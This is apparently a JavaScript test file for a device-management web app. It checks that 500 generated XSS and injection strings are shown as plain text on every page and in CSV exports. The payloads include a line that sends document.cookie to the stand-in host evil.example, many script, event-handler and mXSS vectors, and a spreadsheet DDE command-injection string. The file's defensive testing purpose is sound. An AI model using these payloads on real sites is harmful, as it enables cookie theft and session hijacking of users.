// Whatever a device, a person or a file has written is shown as it is, wherever it is shown, and nothing else happens.
//
// Five hundred hostile strings take the place of every word in every answer of the API that the pages show: of nothing that is
// displayed it has to be remembered here that it is. Some go the whole way besides, from a device, a person or a file. A page that
// runs one of them is noticed in any of five ways (watch); that they notice is shown by pages that do run them.
import assert from "node:assert/strict";
import http from "node:http";
import { after, before, test } from "node:test";
import { asToken, Farol, openBrowser, openPage, VIEW, waitFor } from "./farol.mjs";

const CORES = ["window.hit=1", "parent.hit=1", "alert(1)", "top.hit=1", "fetch('//evil.example/'+document.cookie)"];
const SHAPES = [
  (js) => `<script>${js}</script>`, (js) => `<img src=x onerror="${js}">`, (js) => `"><svg onload=${js}>`, (js) => `'-${js}-'`, (js) => `javascript:${js}`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `</textarea><script>${js}</script>`, (js) => `</title><img src onerror=${js}>`, (js) => `{{${js}}}`,
  (js) => "${" + js + "}", (js) => `<a href="javascript:${js}">x</a>`, (js) => `<details open ontoggle=${js}>`, (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<style>@import'//evil.example';</style>${js}`, (js) => `<form action=javascript:${js}><button>`, (js) => `data:text/html,<script>${js}</script>`,
  (js) => `<base href=//evil.example>${js}`, (js) => `=HYPERLINK("//evil.example","${js}")`, (js) => `@SUM(1)*cmd|'/C ${js}'!A0`, (js) => `\u202Egnp.${js}`,
  (js) => `<input autofocus onfocus=${js}>`, (js) => `<video><source onerror=${js}>`, (js) => `&lt;script&gt;${js}`, (js) => `<svg><animate onbegin=${js}>`, (js) => `%3Cscript%3E${js}`,
];
const COATS = [(text) => text, (text) => text.toUpperCase(), (text) => "\u00a0" + text + "\u2028", (text) => text.replaceAll("<", "<\u0000").replaceAll("\u0000", "/").slice(0, 400)];
const HOSTILE = COATS.flatMap((coat) => SHAPES.flatMap((shape) => CORES.map((core) => coat(shape(core))))).map((text, i) => `${i}:${text}`);

// What pages compute with is left as it is: ids, times, and names that stand for something.
const NAMES = new Set(["id", "device", "case", "action", "state", "type", "code", "severity", "next", "kind", "capabilities", "unit", "outcome", "reason", "how", "role", "language",
  "result", "priority", "playbook", "why", "input", "step", "key", "theme", "enrolment", "family", "fix", "fact", "root"]);
const COMPUTED = /^((dev|act|cas|sub|ver|inc|run|usr|tok|imp|whk|hnd)_|\d{4}-\d\d-\d\dT|\d+ [A-Z ]+$|M [A-Za-z]+$)/;

let farol, door, browser;

before(async () => {
  farol = await Farol.start({ homes: 24 });
  door = await asToken(farol);
  browser = await openBrowser();
});

after(async () => {
  await browser?.close();
  door?.stop();
  await farol?.stop();
});

// ---- noticing

/** A page of a browser of its own, and what in it has run, was asked of others, or was refused by the policy. */
async function watch(home) {
  const context = await browser.newContext({ ...VIEW, locale: "pt-BR" });
  await context.addInitScript(() => {
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => window.refused.push(event.violatedDirective + " " + event.blockedURI));
  });
  const page = await openPage(context);
  const seen = { context, page, dialogs: [], strangers: [] };
  page.on("dialog", (dialog) => (seen.dialogs.push(dialog.message()), dialog.dismiss()));
  page.on("popup", (popup) => seen.strangers.push("popup " + popup.url()));
  page.on("request", (request) => request.url().startsWith(home) || /^(data|blob|about):/.test(request.url()) || seen.strangers.push(request.url()));
  seen.hit = () => page.evaluate(() => window.hit ?? null);
  seen.refused = () => page.evaluate(() => window.refused);
  return seen;
}

async function nothingHappened(seen) {
  const at = seen.page.url();
  assert.equal(await seen.hit(), null, at);
  assert.deepEqual(await seen.refused(), [], at);
  assert.deepEqual(seen.dialogs, [], at);
  assert.deepEqual(seen.strangers, [], at);
  assert.deepEqual(seen.page.complaints, [], at);
}

test("they are noticed: by a page that writes them as markup, and by the policy of one that would", async () => {
  assert.equal(new Set(HOSTILE).size, 500);
  const policy = (await fetch(farol.url + "/")).headers.get("content-security-policy");
  const careless = http.createServer((asked, answer) => {
    const of = asked.url.startsWith("/with-policy") ? { "Content-Security-Policy": policy } : {};
    answer.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ...of });
    const [, n] = /\?(\d+)/.exec(asked.url) ?? [];
    answer.end("<!doctype html><title>careless</title>" + (n ? `<p>${SHAPES[n](CORES[0])}</p>` : HOSTILE.map((text) => `<p>${text}</p>`).join("\n")));
  });
  await new Promise((done) => careless.listen(0, "127.0.0.1", done));
  const home = `http://127.0.0.1:${careless.address().port}`;
  const open = async (at) => {
    const seen = await watch(home);
    await seen.page.goto(home + at, { waitUntil: "domcontentloaded" });
    return seen;
  };
  const without = await open("/");
  await waitFor("what ran has been noticed", async () => without.dialogs.length > 0 && without.strangers.length > 0 && (await without.hit()) === 1);
  const refusing = await open("/with-policy");
  await waitFor("the policy has refused some", async () => (await refusing.refused()).length > 10);
  assert.equal(await refusing.hit(), null);
  await refusing.context.close();
  let ran = 0;
  for (const n of SHAPES.keys()) {
    await without.page.goto(`${home}/?${n}`);
    if ((await without.hit()) === 1) ran++;
  }
  await without.context.close();
  assert.ok(ran >= 6, `${ran} of ${SHAPES.length} shapes ran`); // others want a press, a frame, a program for tables
  careless.closeAllConnections();
  careless.close();
});

// ---- all of them, in the place of every word

/** Every text of an answer that is shown, replaced. */
function poison(value, key, names, next) {
  if (Array.isArray(value)) return value.map((one) => poison(one, key, names, next));
  if (value !== null && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poison(one, name, names, next)]));
  if (typeof value !== "string" || NAMES.has(key) || (key === "name" && names) || COMPUTED.test(value)) return value;
  return next();
}

async function poisoned(context) {
  let at = 0;
  const next = () => HOSTILE[at++ % HOSTILE.length];
  await context.route("**/api/v1/**", async (route) => {
    const asked = route.request();
    if (/\/(stream|me|choices)\b/.test(asked.url())) return route.continue();
    const answer = await route.fetch();
    if (!(answer.headers()["content-type"] ?? "").includes("json")) return route.fulfill({ response: answer });
    const names = /\/(facts|metrics|parameters|secrets|handoff)\b/.test(asked.url());
    await route.fulfill({ response: answer, json: poison(await answer.json(), "", names, next) });
  });
}

/** Which of the strings are to be seen on the page, each as it was written. */
const seenOn = (page) => page.evaluate((strings) => {
  const text = document.body.textContent + [...document.querySelectorAll("input, textarea")].map((field) => field.value).join("\n");
  return strings.filter((one) => text.includes(one));
}, HOSTILE);

/** A home with everything that may be shown of one: an escalated case, notes, an action that has failed. */
async function eventful() {
  const id = await farol.deviceOf("Maria");
  const { id: open } = await farol.api("POST", "/cases", { device: id, found_by: "serial" });
  await farol.api("POST", `/cases/${open}/notes`, { text: "anotado" });
  await farol.api("POST", `/cases/${open}/escalate`, { queue: "N2" });
  farol.order("next", farol.serialOf("Maria"), "Reboot", "9002");
  const { id: action } = await farol.api("POST", `/devices/${id}/actions`, { type: "reboot" });
  await waitFor("it has failed", async () => (await farol.api("GET", "/actions/" + action)).state === "failed", 60);
  const found = await farol.api("GET", "/search?q=" + farol.serialOf("Maria"));
  return { id, open, customer: found.subscribers[0]?.id ?? found.devices[0].subscriber.id };
}

async function administration(page) {
  await page.goto(door.url + "/administracao");
  await page.locator(".admin nav a").first().waitFor();
  return page.locator(".admin nav a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
}

const WINDOWS = ["w", "z", "t", "k", "n", "e", "x"];

test("five hundred hostile strings in every field that is shown: none runs, and the policy has nothing to refuse", async () => {
  const { id, open, customer } = await eventful();
  const seen = await watch(door.url);
  const { page, context } = seen;
  await poisoned(context);
  const views = ["", "/wifi", "/internet", "/rede", "/historico", "/configuracao", "/tecnico"].map((view) => `/aparelho/${id}${view}`);
  const places = [...views, "/cliente/" + customer, "/fila", "/atendimento/" + open, "/frota", "/frota/painel", "/incidentes", "/", "/conta", ...(await administration(page))];
  const shown = new Set();
  const look = async () => {
    for (const text of await seenOn(page)) shown.add(text);
    await nothingHappened(seen);
  };
  for (let round = 0; shown.size < HOSTILE.length; round++) {
    assert.ok(round < 8, `${shown.size} were seen`);
    for (const place of places) {
      await page.goto(door.url + place);
      await page.locator("main .card, main .search, main table, main .empty, main form").first().waitFor();
      await waitFor("nothing is awaited", async () => (await page.locator(".bones").count()) === 0);
      await look();
    }
  }
  await page.goto(`${door.url}/aparelho/${id}`);
  await page.locator(".protocol").first().waitFor();
  for (const key of WINDOWS) {
    await page.keyboard.press(key);
    await page.locator("dialog[open]").waitFor();
    await look();
    await page.keyboard.press("Escape");
    await page.locator("dialog").waitFor({ state: "detached" });
  }
  await page.keyboard.press("/");
  await page.keyboard.type("maria");
  await page.locator("dialog [role=option]").first().waitFor();
  await look();
  assert.equal(shown.size, HOSTILE.length);
  await context.close();
});

test("what the server refuses in hostile words is told as they are", async () => {
  const id = await farol.deviceOf("Pedro");
  const seen = await watch(door.url);
  const { page, context } = seen;
  let words = "";
  await context.route("**/api/v1/devices/*/actions", (route) => route.request().method() === "POST"
    ? route.fulfill({ status: 409, contentType: "application/problem+json", json: { status: 409, code: "conflict", title: words, detail: words } })
    : route.continue());
  await page.goto(`${door.url}/aparelho/${id}`);
  await page.locator(".command").first().waitFor();
  for (const n of SHAPES.keys()) {
    words = HOSTILE[n * CORES.length];
    await page.keyboard.press("u");
    await page.locator(".toast", { hasText: words }).first().waitFor();
    await nothingHappened(seen);
  }
  await context.close();
});

// ---- the whole way: from a device, a person, a file, to the page and into another file

const WHOLE = SHAPES.map((shape) => shape("window.hit=1"));

/** As it has to be written to a file of which a spreadsheet makes no formula. */
const cellOf = (text) => `"${/^[=+@-]/.test(text) ? "'" : ""}${text.replaceAll('"', '""')}"`;
const bare = (cell) => cell.slice(1, -1);

test("from the device, the customer and the note to the page and the file: as they were written", async () => {
  const serial = farol.serialOf("Lúcia");
  const id = await farol.deviceOf("Lúcia");
  const found = await farol.api("GET", "/search?q=" + serial);
  const customer = found.subscribers[0]?.id ?? found.devices[0].subscriber.id;
  const { id: open } = await farol.api("POST", "/cases", { device: id, found_by: "serial" });
  const seen = await watch(door.url);
  const { page, context } = seen;
  for (const words of WHOLE) {
    const ssid = words.slice(0, 32);
    farol.order("set", serial, "Device.WiFi.SSID.1.SSID", ssid);
    const { id: reading } = await farol.api("POST", `/devices/${id}/actions`, { type: "refresh", params: { path: "Device.WiFi.SSID.1." } });
    await farol.api("PATCH", "/subscribers/" + customer, { name: words, attributes: { cto: words.slice(0, 64), city: words.slice(0, 64) } });
    await farol.api("POST", `/cases/${open}/notes`, { text: words });
    await waitFor("the device was read", async () => (await farol.api("GET", "/actions/" + reading)).state === "succeeded", 60);
    await page.goto(`${door.url}/aparelho/${id}`);
    await page.locator("h1", { hasText: words }).waitFor();
    await page.locator(".case-log li", { hasText: words }).first().waitFor();
    assert.ok((await page.locator(".home-head .about").textContent()).includes(words.slice(0, 64)));
    await nothingHappened(seen);
    await page.locator(".view-tabs a").nth(1).click();
    await page.locator(".card strong", { hasText: ssid }).first().waitFor();
    await nothingHappened(seen);
    const file = await fetch(`${farol.url}/api/v1/devices/export?format=csv&q=serial:${serial}`, { headers: { Authorization: "Bearer " + farol.token } }).then((answer) => answer.text());
    const cell = cellOf(words);
    assert.ok(file.includes(cell) || (!/[",]/.test(words) && file.includes("," + bare(cell) + ",")), `${cell} in ${file}`);
  }
  await context.close();
});
